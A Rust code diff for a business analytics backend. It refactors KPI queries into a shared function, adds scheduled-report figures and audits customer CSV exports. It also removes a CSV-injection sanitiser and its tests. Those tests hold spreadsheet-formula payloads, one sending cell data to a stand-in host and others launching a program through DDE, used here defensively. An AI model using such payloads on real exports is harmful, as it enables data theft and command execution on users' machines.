@@ -3,6 +3,8 @@
 use async_graphql::{Context, Enum, Object, SimpleObject};
 use chrono::{Datelike, NaiveDate};
 use domain::ports::Role;
+use domain::report::{spreadsheet_safe, ReportFigure};
+use domain::scheduled_report::ReportMetric;
 use projections::Param;
 
 use super::context::{self, parts};
@@ -80,6 +82,69 @@ pub struct Kpis {
     pub tier_distribution: Vec<TierCount>,
 }
 
+impl Kpis {
+    /// The figures of `metrics`, in the order the metrics are listed, named as the fields
+    /// here are (money in cents): what a scheduled report records and sends.
+    pub fn figures(&self, metrics: &[ReportMetric]) -> Vec<ReportFigure> {
+        let mut out = Vec::new();
+        for &metric in metrics {
+            let mut f = |name: &str, value: Option<i64>| {
+                out.push(ReportFigure::new(metric, name, value));
+            };
+            match metric {
+                ReportMetric::Revenue => {
+                    f("revenue_cents", Some(self.revenue.amount_cents));
+                    f("jobs_completed", Some(self.jobs_completed));
+                    f(
+                        "new_customer_revenue_cents",
+                        Some(self.new_customer_revenue.amount_cents),
+                    );
+                    f(
+                        "returning_customer_revenue_cents",
+                        Some(self.returning_customer_revenue.amount_cents),
+                    );
+                }
+                ReportMetric::Customers => {
+                    f("new_customers", Some(self.new_customers));
+                    f("active_customers", Some(self.active_customers));
+                    f("lapsed_customers", Some(self.lapsed_customers));
+                }
+                ReportMetric::OpportunityConversion => {
+                    f("opportunity_conversion_bp", self.opportunity_conversion_bp);
+                }
+                ReportMetric::PromotionEffectiveness => {
+                    f("promotion_conversion_bp", self.promotion_conversion_bp);
+                    f(
+                        "promotion_attributed_revenue_cents",
+                        Some(self.promotion_attributed_revenue.amount_cents),
+                    );
+                }
+                ReportMetric::Reviews => {
+                    f("reviews_received", Some(self.reviews_received));
+                    f("review_average_centi", self.review_average_centi);
+                    f("review_response_rate_bp", self.review_response_rate_bp);
+                    for (i, n) in self.review_distribution.iter().enumerate() {
+                        f(&format!("reviews_{}_stars", i + 1), Some(*n));
+                    }
+                }
+                ReportMetric::Loyalty => {
+                    f("loyalty_enrolments", Some(self.loyalty_enrolments));
+                    f("points_issued", Some(self.points_issued));
+                    f("points_redeemed", Some(self.points_redeemed));
+                    for t in &self.tier_distribution {
+                        f(&format!("{}_accounts", t.tier), Some(t.accounts));
+                    }
+                }
+                ReportMetric::PortalUsage => {
+                    f("portal_logins", Some(self.portal_logins));
+                    f("online_bookings", Some(self.online_bookings));
+                }
+            }
+        }
+        out
+    }
+}
+
 /// How many loyalty accounts hold a tier.
 #[derive(Debug, SimpleObject)]
 pub struct TierCount {
@@ -116,6 +181,120 @@ fn num(v: Option<&serde_json::Value>) -> i64 {
 
 fn ratio(a: i64, b: i64) -> Option<i64> {
     (b > 0).then(|| a * 10_000 / b)
+}
+
+/// The headline figures of from..=to in the business's time zone `tz`, from the read
+/// models: what `kpis` answers and what a scheduled report sends.
+///
+/// # Errors
+/// When a read model cannot be read.
+pub async fn kpis(
+    projections: &projections::ProjectionRunner,
+    tz: chrono_tz::Tz,
+    from: NaiveDate,
+    to: NaiveDate,
+) -> Result<Kpis, projections::DbError> {
+    let range = [Param::from(from.to_string()), Param::from(to.to_string())];
+    let rows = projections
+            .query("SELECT metric, CAST(SUM(value) AS BIGINT) AS v FROM rm_daily_counts WHERE local_date >= $1 AND local_date <= $2 GROUP BY metric", &range).await?;
+    let m = |name: &str| {
+        rows.iter()
+            .find(|r| r.get("metric").and_then(|v| v.as_str()) == Some(name))
+            .map_or(0, |r| num(r.get("v")))
+    };
+    let rev = projections
+            .query("SELECT returning_customer AS r, CAST(SUM(amount_cents) AS BIGINT) AS cents FROM rm_revenue WHERE local_date >= $1 AND local_date <= $2 GROUP BY returning_customer", &range).await?;
+    let part = |flag: i64| {
+        rev.iter()
+            .find(|r| num(r.get("r")) == flag)
+            .map_or(0, |r| num(r.get("cents")))
+    };
+    let start = local_midnight_utc(tz, from);
+    let end = local_midnight_utc(tz, to.succ_opt().unwrap_or(to));
+    let attributed = projections
+            .query(
+                "SELECT CAST(COALESCE(SUM(amount_cents), 0) AS BIGINT) AS cents FROM rm_revenue
+                  WHERE local_date >= $1 AND local_date <= $2 AND job_id IN
+                    (SELECT redeemed_job_id FROM rm_promotion_recipients WHERE redeemed_job_id IS NOT NULL)",
+                &range,
+            ).await?;
+    let stars = projections
+        .query(
+            "SELECT rating, CAST(COUNT(*) AS BIGINT) AS n FROM rm_reviews
+                  WHERE received_at >= $1 AND received_at < $2 GROUP BY rating",
+            &[start.as_str().into(), end.as_str().into()],
+        )
+        .await?;
+    let mut review_distribution = vec![0i64; 5];
+    for r in &stars {
+        let rating = num(r.get("rating"));
+        if (1..=5).contains(&rating) {
+            review_distribution[(rating - 1) as usize] += num(r.get("n"));
+        }
+    }
+    let reviews: i64 = review_distribution.iter().sum();
+    let star_total: i64 = review_distribution
+        .iter()
+        .enumerate()
+        .map(|(i, n)| (i as i64 + 1) * n)
+        .sum();
+    let year_before = projections::projection::rfc3339(
+        chrono::DateTime::parse_from_rfc3339(&end)
+            .map(|t| t.with_timezone(&chrono::Utc))
+            .unwrap_or_default()
+            - chrono::Duration::days(365),
+    );
+    let activity = projections
+            .query(
+                "SELECT CAST(COALESCE(SUM(CASE WHEN last_job_at >= $1 THEN 1 ELSE 0 END), 0) AS BIGINT) AS active,
+                        CAST(COALESCE(SUM(CASE WHEN last_job_at < $1 THEN 1 ELSE 0 END), 0) AS BIGINT) AS lapsed
+                   FROM rm_customers
+                  WHERE erased = 0 AND merged_into IS NULL AND last_job_at IS NOT NULL AND last_job_at < $2",
+                &[year_before.as_str().into(), end.as_str().into()],
+            ).await?;
+    let tiers = projections
+        .query(
+            "SELECT tier, CAST(COUNT(*) AS BIGINT) AS n FROM rm_loyalty_accounts GROUP BY tier",
+            &[],
+        )
+        .await?;
+    let tier_distribution = ["bronze", "silver", "gold", "platinum"]
+        .iter()
+        .map(|t| TierCount {
+            tier: (*t).to_string(),
+            accounts: tiers
+                .iter()
+                .find(|r| r.get("tier").and_then(|v| v.as_str()) == Some(t))
+                .map_or(0, |r| num(r.get("n"))),
+        })
+        .collect();
+    let first =
+        |rows: &[projections::JsonRow], col: &str| num(rows.first().and_then(|r| r.get(col)));
+    Ok(Kpis {
+        promotion_attributed_revenue: Money::usd(first(&attributed, "cents")),
+        review_average_centi: (reviews > 0).then(|| star_total * 100 / reviews),
+        review_distribution,
+        active_customers: first(&activity, "active"),
+        lapsed_customers: first(&activity, "lapsed"),
+        tier_distribution,
+        new_customers: m("new_customers"),
+        jobs_completed: m("jobs_completed"),
+        revenue: Money::usd(part(0) + part(1)),
+        new_customer_revenue: Money::usd(part(0)),
+        returning_customer_revenue: Money::usd(part(1)),
+        opportunity_conversion_bp: ratio(
+            m("opportunities_won"),
+            m("opportunities_won") + m("opportunities_lost"),
+        ),
+        promotion_conversion_bp: ratio(m("promotion_redemptions"), m("promotion_deliveries")),
+        reviews_received: m("reviews_received"),
+        review_response_rate_bp: ratio(m("reviews_responded"), m("reviews_received")),
+        loyalty_enrolments: m("loyalty_enrolments"),
+        points_issued: m("points_issued"),
+        points_redeemed: m("points_redeemed"),
+        portal_logins: m("portal_logins"),
+        online_bookings: m("online_bookings"),
+    })
 }
 
 /// Analytics queries.
@@ -200,125 +379,9 @@ impl AnalyticsQuery {
     ) -> async_graphql::Result<Kpis> {
         let (state, rc) = parts(ctx)?;
         context::staff(rc, Role::Manager, "read analytics")?;
-        let range = [Param::from(from.to_string()), Param::from(to.to_string())];
-        let rows = state
-            .projections
-            .query("SELECT metric, CAST(SUM(value) AS BIGINT) AS v FROM rm_daily_counts WHERE local_date >= $1 AND local_date <= $2 GROUP BY metric", &range)
+        kpis(&state.projections, state.config.business_timezone, from, to)
             .await
-            .map_err(|e| errors::internal(&rc.request_id, &e))?;
-        let m = |name: &str| {
-            rows.iter()
-                .find(|r| r.get("metric").and_then(|v| v.as_str()) == Some(name))
-                .map_or(0, |r| num(r.get("v")))
-        };
-        let rev = state
-            .projections
-            .query("SELECT returning_customer AS r, CAST(SUM(amount_cents) AS BIGINT) AS cents FROM rm_revenue WHERE local_date >= $1 AND local_date <= $2 GROUP BY returning_customer", &range)
-            .await
-            .map_err(|e| errors::internal(&rc.request_id, &e))?;
-        let part = |flag: i64| {
-            rev.iter()
-                .find(|r| num(r.get("r")) == flag)
-                .map_or(0, |r| num(r.get("cents")))
-        };
-        let internal = |e: projections::DbError| errors::internal(&rc.request_id, &e);
-        let tz = state.config.business_timezone;
-        let start = local_midnight_utc(tz, from);
-        let end = local_midnight_utc(tz, to.succ_opt().unwrap_or(to));
-        let attributed = state
-            .projections
-            .query(
-                "SELECT CAST(COALESCE(SUM(amount_cents), 0) AS BIGINT) AS cents FROM rm_revenue
-                  WHERE local_date >= $1 AND local_date <= $2 AND job_id IN
-                    (SELECT redeemed_job_id FROM rm_promotion_recipients WHERE redeemed_job_id IS NOT NULL)",
-                &range,
-            )
-            .await
-            .map_err(internal)?;
-        let stars = state
-            .projections
-            .query(
-                "SELECT rating, CAST(COUNT(*) AS BIGINT) AS n FROM rm_reviews
-                  WHERE received_at >= $1 AND received_at < $2 GROUP BY rating",
-                &[start.as_str().into(), end.as_str().into()],
-            )
-            .await
-            .map_err(internal)?;
-        let mut review_distribution = vec![0i64; 5];
-        for r in &stars {
-            let rating = num(r.get("rating"));
-            if (1..=5).contains(&rating) {
-                review_distribution[(rating - 1) as usize] += num(r.get("n"));
-            }
-        }
-        let reviews: i64 = review_distribution.iter().sum();
-        let star_total: i64 = review_distribution
-            .iter()
-            .enumerate()
-            .map(|(i, n)| (i as i64 + 1) * n)
-            .sum();
-        let year_before = projections::projection::rfc3339(
-            chrono::DateTime::parse_from_rfc3339(&end)
-                .map(|t| t.with_timezone(&chrono::Utc))
-                .unwrap_or_default()
-                - chrono::Duration::days(365),
-        );
-        let activity = state
-            .projections
-            .query(
-                "SELECT CAST(COALESCE(SUM(CASE WHEN last_job_at >= $1 THEN 1 ELSE 0 END), 0) AS BIGINT) AS active,
-                        CAST(COALESCE(SUM(CASE WHEN last_job_at < $1 THEN 1 ELSE 0 END), 0) AS BIGINT) AS lapsed
-                   FROM rm_customers
-                  WHERE erased = 0 AND merged_into IS NULL AND last_job_at IS NOT NULL AND last_job_at < $2",
-                &[year_before.as_str().into(), end.as_str().into()],
-            )
-            .await
-            .map_err(internal)?;
-        let tiers = state
-            .projections
-            .query(
-                "SELECT tier, CAST(COUNT(*) AS BIGINT) AS n FROM rm_loyalty_accounts GROUP BY tier",
-                &[],
-            )
-            .await
-            .map_err(internal)?;
-        let tier_distribution = ["bronze", "silver", "gold", "platinum"]
-            .iter()
-            .map(|t| TierCount {
-                tier: (*t).to_string(),
-                accounts: tiers
-                    .iter()
-                    .find(|r| r.get("tier").and_then(|v| v.as_str()) == Some(t))
-                    .map_or(0, |r| num(r.get("n"))),
-            })
-            .collect();
-        let first =
-            |rows: &[projections::JsonRow], col: &str| num(rows.first().and_then(|r| r.get(col)));
-        Ok(Kpis {
-            promotion_attributed_revenue: Money::usd(first(&attributed, "cents")),
-            review_average_centi: (reviews > 0).then(|| star_total * 100 / reviews),
-            review_distribution,
-            active_customers: first(&activity, "active"),
-            lapsed_customers: first(&activity, "lapsed"),
-            tier_distribution,
-            new_customers: m("new_customers"),
-            jobs_completed: m("jobs_completed"),
-            revenue: Money::usd(part(0) + part(1)),
-            new_customer_revenue: Money::usd(part(0)),
-            returning_customer_revenue: Money::usd(part(1)),
-            opportunity_conversion_bp: ratio(
-                m("opportunities_won"),
-                m("opportunities_won") + m("opportunities_lost"),
-            ),
-            promotion_conversion_bp: ratio(m("promotion_redemptions"), m("promotion_deliveries")),
-            reviews_received: m("reviews_received"),
-            review_response_rate_bp: ratio(m("reviews_responded"), m("reviews_received")),
-            loyalty_enrolments: m("loyalty_enrolments"),
-            points_issued: m("points_issued"),
-            points_redeemed: m("points_redeemed"),
-            portal_logins: m("portal_logins"),
-            online_bookings: m("online_bookings"),
-        })
+            .map_err(|e| errors::internal(&rc.request_id, &e))
     }
 }
 
@@ -406,60 +469,12 @@ impl ExportQuery {
         let bytes = w
             .into_inner()
             .map_err(|e| errors::internal(&rc.request_id, &e))?;
+        // Customers' personal data leaves the system here: who took it, and when, is kept.
+        if report == CsvReport::Customers {
+            super::reports::audit_export(state, rc, "customers CSV".into())
+                .await
+                .map_err(|e| errors::app(&rc.request_id, e))?;
+        }
         String::from_utf8(bytes).map_err(|e| errors::internal(&rc.request_id, &e))
-    }
-}
-
-/// A CSV cell a spreadsheet will show as text, never run: a value that starts
-/// like a formula (`=`, `@`, tab, carriage return, or `+`/`-` followed by
-/// anything but a number, as OWASP's CSV-injection advice lists) gets a leading
-/// `'`. A customer named `=IMPORTXML(…)` would otherwise send the list out of
-/// the manager's spreadsheet. Plain numbers and E.164 phones stay as they are.
-pub fn spreadsheet_safe(cell: &str) -> String {
-    let mut chars = cell.chars();
-    let risky = match chars.next() {
-        Some('=' | '@' | '\t' | '\r') => true,
-        Some('+' | '-') => {
-            let rest = chars.as_str();
-            rest.is_empty() || !rest.chars().all(|c| c.is_ascii_digit() || c == '.')
-        }
-        _ => false,
-    };
-    if risky {
-        format!("'{cell}")
-    } else {
-        cell.to_string()
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::spreadsheet_safe;
-
-    #[test]
-    fn a_cell_that_starts_like_a_formula_is_shown_as_text() {
-        for formula in [
-            "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
-            "@SUM(A1)",
-            "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0",
-            "\t=1",
-        ] {
-            assert_eq!(spreadsheet_safe(formula), format!("'{formula}"));
-        }
-    }
-
-    #[test]
-    fn names_numbers_and_phones_are_left_alone() {
-        for plain in [
-            "Ada Lovelace",
-            "+15125550100",
-            "-42",
-            "12.50",
-            "O'Brien",
-            "",
-        ] {
-            assert_eq!(spreadsheet_safe(plain), plain);
-        }
     }
 }
